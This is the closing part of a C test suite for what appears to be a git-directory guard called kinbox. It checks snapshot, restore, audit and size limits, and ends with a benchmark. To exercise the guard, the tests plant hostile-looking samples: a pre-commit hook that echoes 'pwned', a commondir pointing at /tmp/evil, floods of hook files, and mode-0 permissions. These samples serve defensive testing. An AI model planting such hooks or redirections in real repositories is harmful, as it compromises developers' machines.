	      "_/*.kinbox-quarantine.*") == 0 &&
	       tree_sig(hp, false) == sig0,
	    "hookspath: .husky is as before, but for the evidence");
	kb_gitsnap_free(s);
	kb_policy_free(&p);
}

/* the WATCH_* kinds stay the audit's */
static void
test_watch(void)
{
	struct kb_policy p;
	struct kb_gitsnap *s;
	_cleanup_free_ char *cd = at("wa/.git/commondir");

	git_init("wa");
	ok(policy_for("wa", &p) == 0 && (s = snapshot(&p)) != NULL,
	    "watch: policy, snapshot");
	sh("echo /tmp/evil > wa/.git/commondir");
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 0,
	    "watch: a planted commondir is not the restore's");
	assert_cmpint(kb_gitguard_audit_after(&p, s, collect), 1,
	    "watch: the audit after moves it aside");
	ok(lmode(cd) == 0, "watch: commondir is gone");
	kb_gitsnap_free(s);
	kb_policy_free(&p);
}

/* what the snapshot refuses, and what it must not hang on */
static void
test_limits(void)
{
	struct kb_policy p;
	struct kb_gitsnap *s = NULL;
	struct kb_err e;

	git_init("big");
	sh("cd big && head -c 1100000 /dev/zero | tr '\\0' '#' >> .git/config");
	ok(policy_for("big", &p) == 0, "limits: policy for a 1.1 MB config");
	e.msg[0] = '\0';
	ok(kb_gitguard_snapshot(&p, &s, &e) == -1 && s == NULL &&
	       strstr(e.msg, "larger than 1 MiB") != NULL &&
	       strstr(e.msg, "big/.git/config") != NULL,
	    "limits: refused, naming the file and why");
	printf("# %s\n", e.msg);
	kb_policy_free(&p);

	git_init("many");
	sh("cd many/.git/hooks && i=0; while [ $i -lt 4100 ]; do : > h$i; "
	   "i=$((i+1)); done");
	ok(policy_for("many", &p) == 0, "limits: policy for 4100 hooks");
	ok(kb_gitguard_snapshot(&p, &s, &e) == -1 &&
	       strstr(e.msg, "4096 entries") != NULL,
	    "limits: more than 4096 entries refused");
	kb_policy_free(&p);

	git_init("fifo");
	sh("mkfifo fifo/.git/hooks/post-merge");
	ok(policy_for("fifo", &p) == 0 && (s = snapshot(&p)) != NULL,
	    "limits: a FIFO in hooks is recorded, never opened");
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 0,
	    "limits: and an unchanged FIFO is no finding");
	kb_gitsnap_free(s);
	kb_policy_free(&p);
}

/* evidence names a command could plant in advance; a flood of new hooks */
static void
test_preplanted(void)
{
	struct kb_policy p;
	struct kb_gitsnap *s;
	_cleanup_free_ char *hooks = at("pp/.git/hooks");
	_cleanup_free_ char *hook = at("pp/.git/hooks/pre-commit");
	uint64_t sig0;

	git_init("pp");
	sig0 = tree_sig(hooks, false);
	ok(policy_for("pp", &p) == 0 && (s = snapshot(&p)) != NULL,
	    "preplanted: policy, snapshot");
	put(hook, "#!/bin/sh\necho pwned\n", 0755);
	sh("cd pp/.git/hooks && mkdir pre-commit.kinbox-quarantine.%ld && "
	   "for i in 1 2 3; do mkdir pre-commit.kinbox-quarantine.%ld.$i; "
	   "done",
	    (long)getpid(), (long)getpid());
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 5,
	    "preplanted: the hook and the four planted evidence names");
	ok(lmode(hook) == 0, "preplanted: the hook is moved aside anyway");
	ok(sh("cd pp/.git/hooks && rm -rf *.kinbox-quarantine.*") == 0 &&
	       tree_sig(hooks, false) == sig0,
	    "preplanted: the hooks are as before, but for the evidence");

	sh("cd pp/.git/hooks && i=0; while [ $i -lt 4200 ]; do : > f$i; "
	   "i=$((i+1)); done && printf '#!/bin/sh\necho pwned\n' > "
	   "pre-commit && chmod 755 pre-commit");
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 1,
	    "flood: 4201 new entries in hooks: one finding");
	ok(S_ISDIR(lmode(hooks)) && tree_sig(hooks, false) == sig0,
	    "flood: hooks recreated whole from the snapshot");
	{
		_cleanup_free_ char *ev = evidence(tat("pp/.git"), "hooks");
		_cleanup_free_ char *evh =
		    ev ? xasprintf("%s/pre-commit", ev) : NULL;

		ok(evh != NULL && S_ISREG(lmode(evh)),
		    "flood: the flooded dir is kept aside");
	}
	assert_cmpint(nlines(hooks, "more than 4096 new entries", NULL), 1,
	    "flood: reported");
	kb_gitsnap_free(s);
	kb_policy_free(&p);
}

/* modes that lock kinbox out: the restore chmods first, then looks */
static void
test_modes(void)
{
	struct kb_policy p;
	struct kb_gitsnap *s;
	_cleanup_free_ char *hooks = at("mo/.git/hooks");
	_cleanup_free_ char *hook = at("mo/.git/hooks/pre-push.sample");
	_cleanup_free_ char *hook2 = at("mo/.git/hooks/pre-commit.sample");
	uint64_t sig0;
	ino_t ino0;

	git_init("mo");
	sig0 = tree_sig(hooks, false);
	ino0 = lino(hook);
	ok(policy_for("mo", &p) == 0 && (s = snapshot(&p)) != NULL,
	    "modes: policy, snapshot");
	put(hook2, "#!/bin/sh\necho pwned\n", 0755);
	ok(chmod(hook, 0) == 0 && chmod(hook2, 0) == 0 && chmod(hooks, 0) == 0,
	    "modes: two hooks (one also rewritten) and hooks/ made mode 0");
	reset_lines();
	assert_cmpint(kb_gitguard_restore(&p, s, collect), 4,
	    "modes: hooks/'s mode, two hooks' modes, one's bytes: four "
	    "findings");
	ok(tree_sig(hooks, true) != 0 && lino(hook) == ino0 &&
	       (lmode(hook) & 07777) == 0755 && (lmode(hooks) & 07777) == 0755,
	    "modes: restored in place");
	ok(sh("cd mo/.git/hooks && rm -f *.kinbox-quarantine.*") == 0 &&
	       tree_sig(hooks, false) == sig0,
	    "modes: the hooks are as before, but for the evidence");
	kb_gitsnap_free(s);
	kb_policy_free(&p);
}

/* --- the cost ------------------------------------------------------------ */

static long long
now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000000000ll + ts.tv_nsec;
}

static int
by_ll(const void *a, const void *b)
{
	long long x = *(const long long *)a, y = *(const long long *)b;

	return (x > y) - (x < y);
}

static void
bench(const char *what, const char *ws)
{
	struct kb_policy p;
	long long snap[41], rest[41];
	const int n = 41;
	size_t nguard = 0;

	if (policy_for(ws, &p) != 0) {
		ok(0, "bench: policy for %s", what);
		return;
	}
	for (size_t i = 0; i < p.nguard; i++)
		nguard++;
	for (int i = 0; i < n; i++) {
		struct kb_gitsnap *s = NULL;
		struct kb_err e;
		long long t0 = now_ns(), t1, t2;

		if (kb_gitguard_snapshot(&p, &s, &e) == -1) {
			ok(0, "bench: snapshot of %s: %s", what, e.msg);
			kb_policy_free(&p);
			return;
		}
		t1 = now_ns();
		reset_lines();
		if (kb_gitguard_restore(&p, s, collect) != 0)
			printf("# bench: unexpected findings\n");
		t2 = now_ns();
		kb_gitsnap_free(s);
		snap[i] = (t1 - t0) / 1000;
		rest[i] = (t2 - t1) / 1000;
	}
	qsort(snap, (size_t)n, sizeof(*snap), by_ll);
	qsort(rest, (size_t)n, sizeof(*rest), by_ll);
	printf("# bench %s (%zu guards): snapshot median %lld us (min %lld, "
	       "max %lld); restore, no change, median %lld us (min %lld)\n",
	    what, nguard, snap[n / 2], snap[0], snap[n - 1], rest[n / 2],
	    rest[0]);
	ok(1, "bench: %s measured", what);
	kb_policy_free(&p);
}

static void
test_bench(void)
{
	if (sh("git clone -q --no-hardlinks /work/main clone") != 0 &&
	    sh("git clone -q '%s/ctl' clone", base) != 0) {
		tap_skip("bench: no repository to clone");
		return;
	}
	bench("a clone of kinbox", "clone");
	git_init("fifty");
	sh("cd fifty/.git/hooks && rm -f *.sample && i=0; while [ $i -lt 50 "
	   "]; do head -c 2048 /dev/urandom | base64 > hook$i && chmod 755 "
	   "hook$i; i=$((i+1)); done && cd .. && i=0; while [ $i -lt 2000 ]; "
	   "do printf '[remote \"r%%d\"]\\n\\turl = https://example.com/"
	   "repository/number/%%d.git\\n' $i $i; i=$((i+1)); done >> config "
	   "&& truncate -s 102400 config");
	bench("50 hooks of 2.7 KiB and a 100 KiB config", "fifty");
}

int
main(void)
{
	char tmpl[] = "/tmp/kb-test-gitsnap.XXXXXX";

	alarm(300); /* a FIFO opened by mistake must not hang the suite */
	signal(SIGPIPE, SIG_IGN);
	if (mkdtemp(tmpl) == NULL) {
		printf("Bail out! mkdtemp\n");
		return 1;
	}
	if (realpath(tmpl, base) == NULL) {
		printf("Bail out! realpath\n");
		return 1;
	}
	umask(022);
	{
		_cleanup_free_ char *home = at("home");

		mkdir(home, 0755);
		setenv("HOME", home, 1);
	}
	setenv("TMPDIR", "/tmp", 1);
	setenv("GIT_CONFIG_NOSYSTEM", "1", 1);
	setenv("GIT_CONFIG_GLOBAL", "/dev/null", 1);
	setenv("GIT_AUTHOR_NAME", "t", 1);
	setenv("GIT_AUTHOR_EMAIL", "t@example.com", 1);
	setenv("GIT_COMMITTER_NAME", "t", 1);
	setenv("GIT_COMMITTER_EMAIL", "t@example.com", 1);
	setenv("GIT_TEMPLATE_DIR", "/usr/share/git-core/templates", 1);
	unsetenv("XDG_CONFIG_HOME");
	if (chdir(base) == -1)
		return 1;

	test_controls();
	test_hostile();
	test_absent();
	test_hooks_replaced();
	test_gitdir();
	test_child_symlink();
	test_hookspath();
	test_watch();
	test_limits();
	test_preplanted();
	test_modes();
	test_bench();

	reset_lines();
	if (chdir("/") == 0 && getenv("KB_KEEP") == NULL) {
		_cleanup_free_ char *cmd = xasprintf("rm -rf '%s'", base);

		if (system(cmd) != 0)
			printf("# could not remove %s\n", base);
	}
	return tap_done();
}
